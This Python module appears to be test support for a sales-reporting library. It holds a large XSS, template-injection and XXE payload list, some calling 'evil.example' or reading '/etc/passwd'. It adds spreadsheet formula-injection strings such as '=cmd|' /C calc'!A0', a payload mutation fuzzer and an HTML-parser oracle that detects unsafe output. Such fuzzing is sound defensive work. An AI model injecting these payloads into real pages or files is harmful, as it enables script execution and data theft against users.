"""Payloads, mutations of them, the sinks of our pages, and an oracle that needs no browser."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Sequence
from html.parser import HTMLParser
from typing import Any

import pandas as pd

from salesops_lib.metrics import Exhibit, Finding, Missing
from salesops_lib.reporting import Voice, sections, tables
from salesops_lib.reporting.assets import stylesheet
from salesops_lib.reporting.heat import show_matrix
from salesops_lib.reporting.index import render_index
from salesops_lib.reporting.sentences import say
from salesops_lib.reporting.template import render

#: The payload set P: each calls `mark()` or asks `evil.example` for something when it gets through.
PAYLOADS = (
    "<script>mark()</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=mark()>",
    "<img src='https://evil.example/p.png'>",
    "<svg onload=mark()>",
    "<svg><script>mark()</script></svg>",
    "<svg><animate onbegin=mark() attributeName=x dur=1s></svg>",
    "<svg><use href='https://evil.example/a.svg#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.mark()</script>'></iframe></foreignObject></svg>",
    "<a href='javascript:mark()'>a</a>",
    "<a href='&#106;avascript:mark()'>a</a>",
    "<a href='java\tscript:mark()'>a</a>",
    "[a](javascript:mark())",
    "<iframe srcdoc='<script>parent.mark()</script>'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<style>@import url(https://evil.example/a.css);</style>",
    "<style>*{background:url(https://evil.example/b)}</style>",
    "<div style='background:url(https://evil.example/c)'>a</div>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button autofocus onfocus=mark()>a</button></form>",
    "<input autofocus onfocus=mark()>",
    "<details open ontoggle=mark()>a</details>",
    "<video><source onerror=mark()></video>",
    "<object data='javascript:mark()'></object>",
    "<embed src='javascript:mark()'>",
    "<math><mtext><script>mark()</script></mtext></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:mark()'>a</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=mark()>'></noscript>",
    "<template><script>mark()</script></template>",
    "x onmouseover=mark() y=",
    "1 onerror=mark()",
    "\" onmouseover=\"mark()\" x=\"",
    "' onmouseover='mark()' x='",
    "\"><script>mark()</script>",
    "'><img src=x onerror=mark()>",
    "</script><script>mark()</script>",
    "</style><script>mark()</script>",
    "</title><script>mark()</script>",
    "</text></svg><script>mark()</script>",
    "--><script>mark()</script><!--",
    "]]><script>mark()</script>",
    "&lt;script&gt;mark()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=mark()&amp;gt;",
    "+ADw-script+AD4-mark()+ADw-/script+AD4-",
    "\u00bcscript\u00bemark()\u00bc/script\u00be",
    "＜script＞mark()＜/script＞",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "${mark()}`${mark()}`",
    "{pm.__class__} %s %(x)s {0.__globals__}",
    "$\\href{javascript:mark()}{a}$",
    "<%= mark() %><?php mark() ?>",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
)  # fmt: skip

#: What a name of the real world may hold besides.
AWKWARD = (
    "O'Neill & Söhne \"GmbH\" <Nord>",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "[red]bold[/red] [link=https://evil.example]x[/link]",
    "name\nwith\r\nlines\u2028and\u2029more",
    "NUL\x00 bell\x07 vt\x0b ff\x0c del\x7f nel\x85",
    "\u202egpj.exe\u202c zero\u200bwidth bom\ufeff soft\xad",
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", " =1", "'=1", "=cmd|' /C calc'!A0",
    "https://evil.example/", "mailto:a@evil.example", "internal:Sheet1!A1", "file:///etc/passwd",
    "a" * 400, "华东" * 200, "👨‍👩‍👧 שלום",
)  # fmt: skip

_SPACES = ("\t", "\n", "\x0c", "/", "\x00", " ")


def mutated(random_state: random.Random) -> str:
    """A payload in another guise: case, spaces, entities, doubled, nested, glued to another."""
    text = random_state.choice(PAYLOADS)
    for _ in range(random_state.randrange(1, 4)):
        text = random_state.choice(_MUTATIONS)(text, random_state)
    return text


def _case(text: str, r: random.Random) -> str:
    return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in text).replace("MARK", "mark")


def _spaces(text: str, r: random.Random) -> str:
    return text.replace(" ", r.choice(_SPACES))


def _entities(text: str, r: random.Random) -> str:
    return "".join(f"&#{ord(c)}{r.choice((';', ''))}" if r.random() < 0.1 else c for c in text)


def _percent(text: str, r: random.Random) -> str:
    return text.replace("<", "%3C").replace(">", "%3E") if r.random() < 0.5 else text


def _doubled(text: str, r: random.Random) -> str:
    return text.replace("<", "<<").replace("script", "scr<script>ipt")


def _broken_in(text: str, r: random.Random) -> str:
    at = r.randrange(len(text) + 1)
    return (
        text[:at]
        + r.choice(("\x00", "\u200b", "\ufeff", "<!--", "</", "\xad", "<b>", "'", '"', ">"))
        + text[at:]
    )


def _glued(text: str, r: random.Random) -> str:
    return r.choice(PAYLOADS + AWKWARD) + text


def _escaped_once(text: str, r: random.Random) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;")


def _without_end(text: str, r: random.Random) -> str:
    return text[: r.randrange(1, len(text) + 1)]


_MUTATIONS: tuple[Callable[[str, random.Random], str], ...] = (
    _case, _spaces, _entities, _percent, _doubled, _broken_in, _glued, _escaped_once, _without_end,
)  # fmt: skip


# ---- sinks: where names come to stand on a page -------------------------------------------------


def _frame(names: Sequence[str], **columns: Any) -> pd.DataFrame:
    return pd.DataFrame(
        {"name": list(names), "value": [100_00 * (n + 1) for n in range(len(names))], **columns}
    )


def ranking(names: Sequence[str]) -> Exhibit:
    return Exhibit("top_customers", "ranking", _frame(names, region=list(names)), units={"value": "money"})


def standing(names: Sequence[str]) -> Exhibit:
    rows = {
        "unit": list(names),
        "actual": 100_00,
        "base": 90_00,
        "target": 110_00,
        "gap": -10_00,
        "attainment": 0.9,
    }
    return Exhibit(
        "attainment_by_region", "standing", pd.DataFrame({**rows, "is_total": False}), metric="bookings"
    )


def bridge(names: Sequence[str]) -> Exhibit:
    steps, effects = ["start", *names, "end"], [5_00] * len(names)
    frame = pd.DataFrame({"step": steps, "amount": [100_00, *effects, 100_00 + sum(effects)]})
    frame["role"] = ["start", *["effect"] * len(names), "end"]
    return Exhibit("growth_bridge", "bridge", frame, metric="bookings")


def multiples(names: Sequence[str]) -> Exhibit:
    rows = [(name, month, 100_00.0, 90_00.0) for name in names for month in ("2026-01", "2026-02")]
    frame = pd.DataFrame(rows, columns=["panel", "label", "actual", "base"])
    return Exhibit("regions_in_time", "multiples", frame, metric="bookings")


def matrix(names: Sequence[str]) -> Exhibit:
    rows = [(name, other, 100_00.0, 0.1) for name in names for other in names[:2]]
    return Exhibit(
        "where", "matrix", pd.DataFrame(rows, columns=["row", "column", "value", "growth"]), metric="bookings"
    )


def intervals(names: Sequence[str]) -> Exhibit:
    frame = pd.DataFrame({"label": list(names), "value": 0.3, "low": 0.2, "high": 0.4, "n": 40, "base": 0.28})
    return Exhibit("win_rates", "intervals", frame, metric="win_rate")


def flow(names: Sequence[str]) -> Exhibit:
    return Exhibit(
        "funnel", "flow", pd.DataFrame({"step": list(names), "n": 40, "amount": 100_00.0, "rate": 0.5})
    )


def actions(names: Sequence[str]) -> Exhibit:
    asked = [Finding("hostile.text", {"name": name}, "bookings", "bad") for name in names]
    frame = pd.DataFrame({"what": asked, "owner": list(names), "due_on": "2026-04-10", "amount": 1_00})
    return Exhibit("next_steps", "actions", frame)


def table(names: Sequence[str]) -> Exhibit:
    """Names as cells and as headers of columns: comments, file names, reasons."""
    frame = pd.DataFrame({"source": list(names), "reason": list(names), "n": 1})
    return Exhibit("sources", "table", frame.assign(**dict.fromkeys(list(names)[:3], "x")))


EXHIBITS = (ranking, standing, bridge, multiples, matrix, intervals, flow, actions, table)
#: What `actions` says: a message whose only field is a name.
MESSAGES = {"hostile.text": {"en": "Call {name}", "zh": "联系{name}"}}


def section(exhibit: Exhibit, voice: Voice) -> str:
    """The section as the notebook puts it out: before any sanitising."""
    return str(sections.show_section([exhibit], voice, 1))


def page(names: Sequence[str], voice: Voice, make: Callable[[Sequence[str]], Exhibit]) -> str:
    """A page of one exhibit, names also in the marks of its output and in everything around it."""
    name = names[0]
    output = marked(section(make(names), voice), id=name, label=name, number=name)
    notebook = {
        "cells": [{"cell_type": "code", "id": name, "metadata": {"tags": [name]}, "source": name, "outputs": [output]}],
        "metadata": {"title": name, "authors": [{"name": name}], "kernelspec": {"name": name, "language": name},
                     "papermill": {"parameters": {name: name}}, "widgets": {name: name}},
    }  # fmt: skip
    meta = {"workbook": name, "index": name, "run": name, "data": name, name: name}
    return render(notebook, lang=voice.lang, title=name, meta=meta, said=restated_by(name))


def cells(names: Sequence[str], voice: Voice) -> str:
    """Tables, matrices and sentences without a chart: cheap enough for thousands of names."""
    parts = [
        tables.show(make(names), voice, limit=len(names)) for make in (ranking, standing, table, actions)
    ]
    parts += [show_matrix(matrix(names), voice)]
    parts += [say(Finding("hostile.text", {"name": name}), voice) for name in names]
    parts += [sections.show_section([Missing(name, (name,), name)], voice, 1) for name in names]
    return "".join(map(str, parts))


def index(names: Sequence[str], lang: str = "en") -> str:
    """The index page with a name in every field of its entries."""
    fields = (
        "report",
        "period",
        "lang",
        "unit",
        "state",
        "title",
        "headline",
        "grade",
        "html",
        "xlsx",
        "pdf",
    )
    entries = [dict.fromkeys((*fields, "cause"), name) for name in names]
    entries += [
        {**dict.fromkeys(fields, name), **restated_by(name), "unit": "", "as_of": ""} for name in names
    ]
    entries += [
        {"report": "10", "period": "2026-03", "lang": "en", "unit": name, "html": name} for name in names
    ]
    return render_index(entries, lang, title=names[0])


def restated_by(name: str) -> dict[str, Any]:
    """What a report says of itself, with a name wherever a word may stand in its figures."""
    figures = {name: 1.5, "bookings": 100}
    restates = {"run_id": name, "finished_at": "2026-03-03T09:00", "because": [], "key_figures": figures}
    told = {"is_complete": True, "key_figures": {name: 2, "bookings": 200}, "restates": restates}
    return {**told, "currency": "CNY", "finished_at": name}


def marked(html: str, **mark: Any) -> dict[str, Any]:
    """An output as `Page` displays it."""
    data = {"text/html": html, "text/plain": html}
    return {
        "output_type": "display_data",
        "data": data,
        "metadata": {"salesops": {"part": "section", **mark}},
    }


#: Outputs of kinds that are not ours; each would run under nbconvert's own template.
FOREIGN = {
    "text/markdown": "# <script>mark()</script> [a](javascript:mark())",
    "text/vnd.mermaid": 'graph TD; A[<img src=x onerror=mark()>]-->B; click A href "javascript:mark()"',
    "application/javascript": "mark('js')",
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='mark()'><script>mark()</script></svg>",
    "image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "text/latex": "$\\href{javascript:mark()}{a}$",
    "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>mark()</script>"},
    "application/vnd.plotly.v1+json": {"data": [{"customdata": ["<script>mark()</script>"]}]},
    "application/vnd.vegalite.v5+json": {"data": {"url": "https://evil.example/data.json"}},
    "application/json": {"</script><script>mark()</script>": 1},
    "text/plain": "</pre><script>mark()</script>\x1b[31m\x1b]8;;https://evil.example\x07a",
}
#: Metadata that a template may put into an attribute without quotes.
METADATA = {"image/png": {"width": "1 onerror=mark()", "height": "1 onload=mark()", "unconfined": "x"}}


def foreign_notebook() -> dict[str, Any]:
    """Every foreign kind, alone and under our own mark; notes with attachments; streams and errors."""
    outputs: list[dict[str, Any]] = []
    for kind, content in FOREIGN.items():
        for kept in ({}, {"salesops": {"part": "section", "id": "x", "label": "x"}}):
            for output_type in ("display_data", "execute_result"):
                made = {"output_type": output_type, "data": {kind: content}, "metadata": {**METADATA, **kept}}
                outputs.append(made)
    outputs += [
        {"output_type": "stream", "name": "stdout", "text": "<script>mark()</script>\x1b[31m"},
        {"output_type": "stream", "name": "stderr", "text": ["<img src=x onerror=mark()>"]},
        {
            "output_type": "error",
            "ename": "<script>mark()</script>",
            "evalue": "<script>mark()</script>",
            "traceback": [],
        },
        {
            "output_type": "error",
            "ename": "DataError",
            "evalue": "</p><script>mark()</script>\x1b[31m",
            "traceback": [],
        },
    ]
    note = {
        "cell_type": "markdown",
        "source": "<script>mark()</script>\n![a](attachment:a.svg)",
        "attachments": {
            "a.svg": {"image/svg+xml": FOREIGN["image/svg+xml"], "text/html": "<script>mark()</script>"}
        },
    }
    raw = {"cell_type": "raw", "source": "<script>mark()</script>", "metadata": {"format": "text/html"}}
    return {"cells": [note, raw, {"cell_type": "code", "outputs": outputs}], "metadata": {"widgets": FOREIGN}}


def styled(names: Sequence[str]) -> list[str]:
    """HTML that other libraries and careless code make of a frame with `names`."""
    frame = pd.DataFrame({"name": list(names), "value": range(len(names))})
    made = [
        frame.to_html(escape=False),
        frame.to_html(),
        f"<h2>{names[0]}</h2><p title={names[0]}>{names[0]}</p>",
    ]
    rows = "".join(f"<td id='T_1' class='col {n}' style='color:red;{n}'>{n}</td>" for n in names)
    made.append(
        f"<style type='text/css'>#T_1{{color:{names[0]}}}</style><table><caption>{names[0]}</caption><tr>{rows}</tr></table>"
    )
    return made


# ---- the oracle ---------------------------------------------------------------------------------

_METAS = {"charset", "viewport", "color-scheme", "referrer", "content-security-policy"}
_FORBIDDEN = frozenset(
    re.findall(
        r"\S+",
        "script iframe frame frameset object embed applet form input button select textarea base link img image picture "
        "video audio source track template noscript math foreignobject use animate animatemotion animatetransform set "
        "marquee portal dialog slot",
    )
)
_ADDRESS = re.compile(r"(?i)(?:javascript|vbscript|data|file|blob|https?|ftp|mailto)\s*:|^\s*//|\\\\|@import")
_ATTRIBUTES = frozenset(
    re.findall(
        r"\S+",
        "class id href data-metric tabindex style scope colspan rowspan viewbox width height role aria-labelledby aria-label "
        "lang charset http-equiv content name x y x1 y1 x2 y2 cx cy r rx ry d points transform fill stroke stroke-width "
        "stroke-dasharray stroke-linecap stroke-linejoin text-anchor opacity offset patternunits gradientunits clip-path "
        "aria-labelledby data-find data-period",
    )
)


class _Oracle(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.text: list[str] = []
        self.tags: list[str] = []
        self._styles = 0
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._inside = tag
        if tag in _FORBIDDEN or (tag == "style" and (self._styles or "main" in self.tags)):
            self.faults.append(f"element {tag}")
        self._styles += tag == "style"
        given = {name: value or "" for name, value in attrs}
        if tag == "meta":
            named = (
                given.get("name") or given.get("http-equiv") or ("charset" if "charset" in given else "")
            ).lower()
            if named not in _METAS:
                self.faults.append(f"meta {given}")
            return
        for name, value in given.items():
            self._attribute(tag, name, value)

    handle_startendtag = handle_starttag

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name not in _ATTRIBUTES:
            self.faults.append(f"attribute {name} of {tag}")
        if name == "href" and not re.fullmatch(r"#[\w-]+|(\.\./)?[^:\\\"'<>?#%\n./][^:\\\"'<>?#%\n]*", value):
            self.faults.append(f"link {value!r}")
        if name == "style" and not re.fullmatch(r"(width|left):\d{1,3}(\.\d+)?%;?", value):
            self.faults.append(f"style {value!r}")
        if (
            name in ("fill", "stroke", "clip-path")
            and "url" in value
            and not re.fullmatch(r"url\(#[\w-]+\)", value)
        ):
            self.faults.append(f"{name} {value!r}")
        # an href has been held to relative addresses above; there a file may be called "@import "
        if name not in ("class", "id", "content", "aria-label", "data-find", "href") and _ADDRESS.search(
            value
        ):
            self.faults.append(f"address in {name} {value!r}")

    def handle_data(self, data: str) -> None:
        if self._inside != "style":
            self.text.append(data)
        elif "import" in data or "url(" in data or "<" in data:
            self.faults.append("style sheet")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data[:40]!r}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data[:40]!r}")


def read(html: str) -> _Oracle:
    """The page as a parser sees it: `faults`, `tags` in order, `text`."""
    oracle = _Oracle()
    oracle.feed(html)
    oracle.close()
    return oracle


def faults(html: str) -> list[str]:
    """What a page holds that could run, fetch or lead away; empty for a good one."""
    return read(_without_search(html)).faults


_BOX = re.compile(r'<p class="find" hidden>.*?</p>')


def _without_search(html: str) -> str:
    """The index without its box and its one script, where they stand byte by byte as we made them."""
    script = f"<script>{stylesheet('index.js')}</script></body>"
    return _BOX.sub("", html.replace(script, "</body>", 1), count=1) if script in html else html


def words(html: str) -> str:
    """The visible text, spaces made one."""
    return " ".join(" ".join(read(html).text).split())
